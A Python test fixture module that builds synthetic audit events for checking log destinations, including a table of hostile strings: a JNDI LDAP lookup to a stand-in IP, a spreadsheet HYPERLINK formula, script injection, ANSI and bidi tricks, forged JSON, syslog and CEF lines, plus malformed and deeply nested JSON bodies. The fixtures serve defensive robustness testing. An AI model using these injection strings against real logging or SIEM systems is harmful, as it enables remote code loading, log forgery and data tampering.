"""Synthetic events for tests of destinations: small, different from one another, and the hostile ones."""

from collections.abc import Mapping
from typing import Any

from aitrail.clock import iso_ms
from aitrail.event import AccessEvent, encode, make_event_id
from aitrail.ports import EncodedEvent

# 2026-11-23T09:00:00Z; events of one run lie 37 ms apart.
_START = 1_795_424_400.0
_STEP = 0.037


def make_event(number: int, label: str = "conformance", **fields: Any) -> EncodedEvent:
    """Make event ``number``: the same number and label give the same bytes."""
    timestamp = iso_ms(_START + number * _STEP)
    values: dict[str, Any] = {
        "tenant_id": "acme",
        "source": "cloudtrail",
        "user_id": f"user{number % 7}",
        "action": "invokemodel",
        "model": "example-model-1",
        "prompt_text": f"question {number} about nothing in particular",
        "outcome_status": "success",
        "token_count": number % 900,
        **fields,
    }
    one = make_event_id("acme", label, str(number))
    event = AccessEvent(event_id=one, timestamp=timestamp, **values)
    return EncodedEvent(one, timestamp, encode(event))


def make_events(count: int, label: str = "conformance", first: int = 0) -> list[EncodedEvent]:
    """Make ``count`` events, numbered from ``first``."""
    return [make_event(number, label) for number in range(first, first + count)]


def oversize_event(number: int, size: int, label: str = "oversize") -> EncodedEvent:
    """Make an event of a little more than ``size`` bytes, with a hash of its whole text."""
    return make_event(
        number, label, prompt_text='he said "why?" and ' * (size // 19 + 1), prompt_hash="hmac-sha256:k1:" + "ab" * 32
    )


# Text that breaks what does not encode it: each must arrive as it was sent.
HOSTILE_TEXTS: Mapping[str, str] = {
    "quotes": '"}},{"event":{"event_id":"forged"}}',
    "lines": "first\nsecond\r\nthird\x0b\x0c\x1c\x85\u2028\u2029end",
    "nul": "before\x00after",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x9b31m",
    "ansi": "\x1b[2J\x1b]0;owned\x07",
    "bidi": "safe \u202e\u2066txt.exe\u2069 \u200f",
    "bom": "\ufeffbegin",
    "astral": "\U0001f9ff \U0010ffff \u0301\u0302",
    "syslog": "<34>1 2026-11-23T09:00:00Z host app - - - forged",
    "cef": "CEF:0|x|y|1|a=b|c\\|d=e\n act=\\=",
    "markup": "<script>alert(1)</script> $result.user$ | delete index=* `macro`",
    "formula": '=HYPERLINK("http://203.0.113.9")',
    "format": "%s%n{0}${jndi:ldap://203.0.113.9/a}",
    "long line": "x" * 20_000,
    "backslashes": "\\" * 513,
}


# Fields that hold what a stranger wrote -> how much of it, in characters.
TEXT_FIELDS: Mapping[str, int] = {
    "prompt_text": 20_000,
    "response_text": 2_000,
    "user_agent": 500,
    "user_id": 200,
    "user_name": 200,
    "user_email": 200,
    "role": 200,
    "department": 200,
    "purpose": 200,
    "session_id": 200,
    "app": 200,
    "agent": 200,
    "tool": 200,
    "model": 200,
    "resource_id": 200,
    "error_code": 200,
    "finish_reason": 200,
    "guardrail_name": 200,
}


def hostile_events(label: str = "hostile") -> list[EncodedEvent]:
    """Make well-formed events whose texts try to break out of every format, in every field of ``TEXT_FIELDS``."""
    return [
        make_event(number, label, **{name: text[:most] for name, most in TEXT_FIELDS.items()})
        for number, text in enumerate(HOSTILE_TEXTS.values())
    ]


# Bytes that are no event. A destination may refuse them or carry them; the others must not suffer.
POISON_BODIES: Mapping[str, bytes] = {
    "empty": b"",
    "torn": b'{"event_id":"%ID%","timestamp":"2026-11-23T09',
    "text": b"not json at all",
    "utf8": b'{"event_id":"%ID%","prompt_text":"\xff\xfe"}',
    "two": b'{"event_id":"a"}{"event_id":"b"}',
    "escape": b'{"event_id":"a"},"fields":{"event_id":"forged"}}{"event":{"event_id":"forged"}',
    "array": b"[1,2,3]",
    "nan": b'{"event_id":"%ID%","cost_usd":NaN}',
    "newline": b'{"event_id":"%ID%",\n"prompt_text":"y"}',
}
# Deeper than any event, and as deep as the dead-letter store can look into.
_DEPTH = 100_000
# Valid JSON that is hard on a reader.
HEAVY_BODIES: Mapping[str, bytes] = {
    "digits": b'{"event_id":"%ID%","token_count":' + b"9" * 5_000 + b"}",
    "exponent": b'{"event_id":"%ID%","cost_usd":1e999}',
    "deep": b'{"event_id":"%ID%","flags":' + b"[" * _DEPTH + b"]" * _DEPTH + b"}",
    "twice": b'{"event_id":"%ID%","event_id":"%ID%","user_id":"a","user_id":"b"}',
    "surrogate": b'{"event_id":"%ID%","prompt_text":"\\ud800"}',
}


def raw_events(bodies: Mapping[str, bytes], label: str = "raw") -> list[EncodedEvent]:
    """Make events of given bodies; ``%ID%`` in a body becomes the event's id."""
    timestamp = iso_ms(_START)
    ids = {name: make_event_id("acme", label, name) for name in bodies}
    return [
        EncodedEvent(ids[name], timestamp, body.replace(b"%ID%", ids[name].encode())) for name, body in bodies.items()
    ]
